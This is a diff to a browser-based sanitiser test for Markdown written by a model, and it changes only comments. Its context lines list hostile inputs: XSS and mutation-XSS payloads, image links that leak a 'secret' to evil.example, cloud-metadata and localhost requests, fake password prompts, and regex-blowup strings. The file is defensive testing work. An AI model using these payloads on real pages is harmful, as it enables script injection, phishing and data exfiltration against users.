@@ -3,8 +3,8 @@ import { build, type Rollup } from 'vite';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { launchBrowser } from '../browser/launch-browser.ts';
 
-// What a model writes is put into the page as Markdown made safe. Here it is made in a real browser, on a page without any
-// policy that would save it, and what came of it is looked at node by node.
+// What a model writes is put into the page as sanitised Markdown. Here it is rendered in a real browser, on a page
+// without any CSP that would protect it, and the result is checked node by node.
 
 let browser: Browser;
 let page: Page;
@@ -56,7 +56,7 @@ const hostile: readonly string[] = [
   '<p id="__proto__" class="toString">x</p>',
   '\u0000<scr\u0000ipt>window.hit=1</scr\u0000ipt>',
   '\u202E\u2066<script>window.hit=1</script>',
-  // Markup that becomes other markup when it is read a second time.
+  // Markup that becomes other markup when it is parsed again.
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>',
   '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">',
@@ -83,7 +83,7 @@ const hostile: readonly string[] = [
   '<img src="http://127.0.0.1:1/rpc"><iframe src="http://169.254.169.254/latest/meta-data/"></iframe>',
   '![a](http://evil.example/?q=secret "t") ![b](//evil.example/b) ![c][r]\n\n[r]: http://evil.example/r',
   '[![x](http://evil.example/i)](http://evil.example/l)',
-  // What would have a person give something away.
+  // What would trick a person into giving something away.
   '<dialog open><form method=dialog action="http://evil.example/"><input type=password name=key></form></dialog>',
   '<button formaction="javascript:window.hit=1" type=submit>Sign in again</button><isindex action="http://evil.example">',
   '<a href="http://evil.example/" target=_blank ping="http://evil.example/p">Your session has ended</a>',
@@ -126,12 +126,12 @@ test('texts made to keep the reader busy are read all the same', async () => {
     '*a_'.repeat(3_000),
     '- '.repeat(1_000),
     '`'.repeat(9_999),
-    // A paragraph of marks: the time that marked takes rises with its square, these would take minutes.
+    // A paragraph of marks: marked's time is quadratic in it, so that these would take minutes.
     '*a_'.repeat(20_000),
     '*!'.repeat(30_000),
     '~a~~'.repeat(20_000),
     '![['.repeat(20_000),
-    // A reader that guesses wrong about code has all of these marks to look through.
+    // A parser that guesses wrong about code has all of these marks to go through.
     `\`\`\`\n${'*a_'.repeat(20_000)}`,
     `- x\n${'*a_'.repeat(20_000)}`,
     Array.from({ length: 2_000 }, (_, depth) => `${' '.repeat(depth)}- a`).join('\n'),
